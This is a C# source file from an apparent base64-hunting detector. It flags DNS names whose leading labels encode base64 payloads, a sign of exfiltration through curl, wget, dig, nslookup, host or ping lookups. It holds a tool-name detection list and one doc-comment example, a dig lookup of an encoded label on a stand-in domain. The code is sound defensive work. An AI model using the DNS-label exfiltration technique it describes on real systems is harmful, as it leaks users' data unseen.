using System;
using System.Collections.Generic;

namespace B64Hunt.Decoding
{
    /// <summary>A run of leading DNS labels that may carry base64 (exfiltration through a looked-up name).</summary>
    internal struct LabelRun
    {
        public int Start;
        public int End;
        /// <summary>The labels joined without dots.</summary>
        public string Joined;
    }

    /// <summary>
    /// Host names of curl, wget, dig, nslookup, host and ping targets whose leading labels (not the last two: the
    /// attacker's domain) are base64 symbols; each prefix of labels is a run, longest first: "dig Y3VybCBodHRwOi8v.x.example.net". The caller decodes them and keeps
    /// only what reads as text.
    /// </summary>
    internal static class DnsLabels
    {
        private static readonly string[] Tools = { "curl", "wget", "dig", "nslookup", "host", "ping" };
        private const int MinJoined = 16;

        /// <summary>One of the tools stands in the text as a command word (after a blank, '/', a quote or an operator, before a blank).</summary>
        public static bool MayApply(string text)
        {
            foreach (string tool in Tools)
            {
                for (int at = text.IndexOf(tool, StringComparison.Ordinal); at >= 0; at = text.IndexOf(tool, at + tool.Length, StringComparison.Ordinal))
                {
                    int end = at + tool.Length;
                    bool before = at == 0 || " \t/'\";|&(`$".IndexOf(text[at - 1]) >= 0;
                    if (before && end < text.Length && (text[end] == ' ' || text[end] == '\t')) return true;
                }
            }
            return false;
        }

        public static List<LabelRun> Find(string text)
        {
            var runs = new List<LabelRun>();
            int i = 0, n = text.Length;
            while (i < n && runs.Count < 64)
            {
                // A host token: letters, digits, '-', '_', '+', '=' and dots, after "://", '@', a blank or a quote.
                if (!IsHostChar(text[i]) || (i > 0 && IsHostChar(text[i - 1]) && text[i - 1] != '.'))
                {
                    i++;
                    continue;
                }
                int start = i;
                while (i < n && (IsHostChar(text[i]) || text[i] == '.')) i++;
                int end = i;
                bool afterScheme = start >= 3 && string.CompareOrdinal(text, start - 3, "://", 0, 3) == 0;
                bool afterBlank = start == 0 || " \t'\"@".IndexOf(text[start - 1]) >= 0;
                bool hostEnd = end >= n || " \t'\"/:;|&)".IndexOf(text[end]) >= 0;
                if ((afterScheme || afterBlank) && hostEnd && end - start >= MinJoined + 5) Labels(text, start, end, runs);
            }
            return runs;
        }

        private static void Labels(string text, int start, int end, List<LabelRun> runs)
        {
            string host = text.Substring(start, end - start).TrimEnd('.');
            string[] labels = host.Split('.');
            if (labels.Length < 3 || !IsTopLevel(labels[labels.Length - 1])) return;
            foreach (string label in labels)
                if (label.Length == 0 || label.Length > MaxLabel) return; // not a DNS name (a JWT, a dotted token)
            // The payload is the leading labels, the rest the attacker's domain: try the longest prefix first,
            // keeping at least two labels (a domain and its top level) as the domain.
            for (int take = labels.Length - 2; take >= 1; take--)
            {
                var joined = new System.Text.StringBuilder();
                int length = 0;
                bool symbols = true;
                for (int l = 0; l < take && symbols; l++)
                {
                    foreach (char c in labels[l])
                        if (!Base64Codec.IsAlphabet(c) && c != '=') { symbols = false; break; }
                    joined.Append(labels[l]);
                    length += labels[l].Length + 1;
                }
                if (!symbols || joined.Length < MinJoined) continue;
                runs.Add(new LabelRun { Start = start, End = start + length - 1, Joined = joined.ToString() });
            }
        }

        private const int MaxLabel = 63;

        /// <summary>A top-level domain is 2 to 24 letters (or an xn-- IDN label).</summary>
        private static bool IsTopLevel(string label)
        {
            if (label.StartsWith("xn--", StringComparison.OrdinalIgnoreCase)) return true;
            if (label.Length < 2 || label.Length > 24) return false;
            foreach (char c in label)
                if (!((c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z'))) return false;
            return true;
        }

        private static bool IsHostChar(char c) =>
            (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') || c == '-' || c == '_' || c == '+' || c == '=';
    }
}
